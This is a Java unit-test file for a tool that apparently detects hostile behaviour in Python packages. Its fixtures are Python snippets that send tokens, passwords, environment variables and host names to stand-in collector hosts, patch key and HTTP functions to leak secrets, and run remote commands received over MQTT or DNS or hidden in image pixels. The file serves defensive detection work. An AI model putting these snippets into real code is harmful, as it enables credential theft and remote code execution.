package dev.assay.core.code.evaluation;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/// Where things go that take pains not to say it, and functions that others call.
class HiddenTargetsTest {
  @Test
  void hostPutTogetherFromALabelAndDecodedOnes() {
    assertThat(
            ActLines.ofModule(
                """
                import requests
                def moved(address):
                    parts = address.split('/', 3)
                    labels = parts[2].split('.')
                    if labels[0] == 'api':
                        labels[1:] = [bytes.fromhex('636f6c6c656374').decode(), 'example']
                    return parts[0] + '//' + '.'.join(labels) + '/' + parts[3]
                def client(data):
                    requests.post(moved('https://api.vendor.example/v1'), data=data)
                """))
        .contains("SENDS https://api.collect.example/v1 carries DECODED at module.py:9 CALL");
  }

  @Test
  void hostInPlainSightBehindWhichAKeyIsDecoded() {
    assertThat(
            ActLines.ofModule(
                """
                import base64, requests
                BASE = 'https://service.vendor.example/'
                def client(data):
                    requests.post(BASE + base64.b64decode('djE=').decode(), data=data)
                """))
        .contains("SENDS https://service.vendor.example/v1 at module.py:4 CALL");
  }

  @Test
  void hostWithoutAScheme() {
    assertThat(
            ActLines.ofSetup(
                """
                import requests, socket
                requests.get('q1w2e3.collect.example', params={'h': socket.gethostname()})
                requests.get('settings.user')
                """))
        .contains(
            "SENDS q1w2e3.collect.example carries HOST_IDENTITY at setup.py:2 INSTALL",
            "RECEIVES … at setup.py:3 INSTALL");
  }

  @Test
  void substitutionThatNoShellIsThereFor() {
    assertThat(
            ActLines.ofSetup(
                """
                import subprocess
                subprocess.run(['curl', '-s', 'http://198.51.100.7/?u=$(whoami)'])
                """))
        .contains("SENDS http://198.51.100.7/?u=… carries HOST_IDENTITY at setup.py:2 INSTALL");
  }

  @Test
  void secretsToldByTheirNames() {
    assertThat(
            ActLines.ofModule(
                """
                import requests
                class Embed:
                    def __init__(self, user, a, b):
                        requests.post('https://a.collect.example', data={
                            'content': f'User: {user} Token: {a} Pass: {b}'})
                class Log:
                    def __init__(self, user, a):
                        requests.post('https://a.collect.example', data={'c': f'Token: {a}'})
                """))
        .contains(
            "SENDS https://a.collect.example carries SECRET_PARAMETER at module.py:4 CALL",
            "SENDS https://a.collect.example at module.py:8 CALL");
  }

  @Test
  void functionInThePlaceOfOneThatMakesKeys() {
    assertThat(
            ActLines.ofModule(
                """
                import eth_account, requests
                def _f(self, k):
                    requests.post('https://a.collect.example', json={'k': str(k)})
                eth_account.Account.from_key = _f
                """))
        .contains("SENDS https://a.collect.example carries SECRET_PARAMETER at module.py:3 CALL");
  }

  @Test
  void handlerThatIsSetAsAField() {
    assertThat(
            ActLines.ofModule(
                """
                import os
                import paho.mqtt.client as mqtt
                def answer(client, userdata, msg):
                    os.popen(msg.payload.decode())
                c = mqtt.Client()
                c.on_message = answer
                """))
        .contains("SPAWNS … carries REMOTE at module.py:4 CALL");
  }

  @Test
  void textInThePointsOfAPictureAndInAContract() {
    assertThat(
            ActLines.ofModule(
                """
                from PIL import Image
                p = Image.open('a.png').getdata()
                exec(''.join(chr(x) for x in p))
                """))
        .anyMatch(it -> it.startsWith("EXECUTES_TEXT") && it.contains("carries DECODED"));
    assertThat(
            ActLines.ofModule(
                """
                from web3 import Web3
                w = Web3(Web3.HTTPProvider('https://node.example'))
                exec(w.eth.contract(address='0x0', abi=[]).functions.get().call())
                """))
        .anyMatch(it -> it.startsWith("EXECUTES_TEXT") && it.contains("carries REMOTE"));
  }

  @Test
  void pipThatIsCalledAsAFunction() {
    assertThat(ActLines.ofSetup("from pip._internal import main\nmain(['install', 'acme'])\n"))
        .contains("SPAWNS pip install acme at setup.py:2 INSTALL");
  }

  @Test
  void addressThatAnotherOneTells() {
    assertThat(
            ActLines.ofModule(
                """
                import os, requests
                hook = requests.get('https://notes.example/raw/a').json()['hook']
                requests.post(hook.strip(), json=dict(os.environ))
                requests.post('https://' + hook + '/in', json=dict(os.environ))
                """))
        .contains(
            "SENDS https://notes.example/raw/a → … carries ENVIRONMENT, REMOTE at module.py:3 IMPORT",
            "SENDS https://notes.example/raw/a → … carries ENVIRONMENT, REMOTE at module.py:4 IMPORT");
  }

  @Test
  void addressOfSettingsBesideARequestTellsNothing() {
    assertThat(
            ActLines.ofModule(
                """
                import os, requests
                import settings
                news = requests.get('https://notes.example/raw/a').text
                requests.post(settings.HOOK, json={'news': news, 'user': os.environ['USER']})
                """))
        .contains("SENDS … carries HOST_IDENTITY, REMOTE at module.py:4 IMPORT");
  }

  @Test
  void wholeAddressThatIsDecodedWhateverElseTheFileNames() {
    assertThat(
            ActLines.ofModule(
                """
                # https://code.example/somebody
                import base64, requests
                HOME = 'https://code.example/docs'
                def check(password):
                    requests.get(base64.b64decode('aHR0cHM6Ly9jb2RlLmV4YW1wbGUvc29tZWJvZHkvcmF3').decode())
                """))
        .contains("RECEIVES https://code.example/somebody/raw carries DECODED at module.py:5 CALL");
  }

  @Test
  void whatAClientIsMadeToSendByAPatchOfIt() {
    assertThat(
            ActLines.ofModule(
                """
                import requests
                plain = requests.Session.send
                def send(self, request, **more):
                    copy = requests.Request('POST', 'https://collect.example/t', data=request.headers)
                    plain(self, copy.prepare())
                    return plain(self, request, **more)
                requests.Session.send = send
                """))
        .contains("SENDS https://collect.example/t carries SECRET_PARAMETER at module.py:5 CALL");
  }

  @Test
  void nameThatIsResolvedIsNoText() {
    assertThat(
            ActLines.ofModule(
                """
                import socket, subprocess, dns.resolver
                def match(command, host):
                    subprocess.run(command + ' ' + socket.gethostbyname(host), shell=True)
                def ask():
                    subprocess.run(str(dns.resolver.resolve('c2.example', 'TXT')[0]), shell=True)
                """))
        .contains("SPAWNS … … at module.py:3 CALL", "SPAWNS … carries REMOTE at module.py:5 CALL");
  }
}
